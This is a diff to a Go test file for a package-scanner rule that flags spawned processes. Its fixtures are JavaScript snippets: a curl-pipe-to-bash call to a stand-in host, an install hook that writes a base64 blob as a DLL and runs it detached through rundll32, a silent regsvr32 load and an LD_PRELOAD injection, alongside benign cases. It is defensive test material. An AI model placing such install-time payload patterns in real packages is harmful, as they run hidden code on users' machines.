@@ -10,6 +10,12 @@ import (
 func TestSpawn(t *testing.T) {
 	rt.Check(t, Spawn{}, []rt.Case{
 		{"curl_sh", map[string]string{"index.js": `require("child_process").execSync("curl -s https://x.invalid/s | bash")`}, finding.SeverityCritical},
+		// a DLL the package wrote, run through rundll32 or regsvr32;
+		// Windows' own url.dll opening a link is not
+		{"rundll32_written_dll_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node install.js"}`),
+			"install.js": `const p = require("path").join(require("os").tmpdir(), "node-gyp.dll"); require("fs").writeFileSync(p, Buffer.from(blob, "base64")); require("child_process").spawn("rundll32.exe", [p + ",main"], {detached: true, stdio: "ignore"})`}, finding.SeverityCritical},
+		{"regsvr32_library", map[string]string{"index.js": `require("child_process").execSync("regsvr32 /s " + dll)`}, finding.SeverityHigh},
+		{"rundll32_open_link", map[string]string{"index.js": `require("child_process").spawn("rundll32", ["url.dll,FileProtocolHandler", url])`}, finding.SeverityLow},
 		// a library injected into the started program
 		{"ld_preload_env", map[string]string{"index.js": `require("child_process").spawn("sudo", ["-n", "true"], { env: { LD_PRELOAD: require("path").join(__dirname, "hook.so") } })`}, finding.SeverityHigh},
 		{"ld_library_path", map[string]string{"index.js": `require("child_process").spawn("tool", [], { env: { ...process.env, LD_LIBRARY_PATH: libDir } })`}, finding.SeverityLow},
